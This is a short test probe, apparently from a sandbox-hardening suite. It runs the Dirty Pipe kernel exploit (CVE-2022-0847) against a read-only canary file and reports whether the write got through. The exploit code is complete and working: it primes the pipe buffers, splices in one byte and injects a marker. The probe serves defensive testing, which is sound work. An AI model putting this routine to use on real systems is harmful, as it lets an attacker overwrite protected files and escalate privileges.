# M01: Dirty Pipe (CVE-2022-0847) against the read-only bound canary
# (ARGS[0]): prime every pipe buffer with PIPE_BUF_FLAG_CAN_MERGE, splice
# one byte of the file in, then write: a vulnerable kernel merges the
# write into the file's page cache.
import fcntl
path = ARGS[0]
before = read(path)
fd = os.open(path, os.O_RDONLY)
r, w = os.pipe()
size = fcntl.fcntl(w, 1032)  # F_GETPIPE_SZ
n = 0
while n < size:
    n += os.write(w, b"p" * 4096)
n = 0
while n < size:
    n += len(os.read(r, 4096))
attempt("splice", lambda: os.splice(fd, w, 1, offset_src=4096))
attempt("write", lambda: os.write(w, b"PWNED-BY-DIRTY-PIPE"))
os.close(fd)
after = read(path)
OUT["changed inside"] = after != before
OUT["bytes"] = len(after)
done()
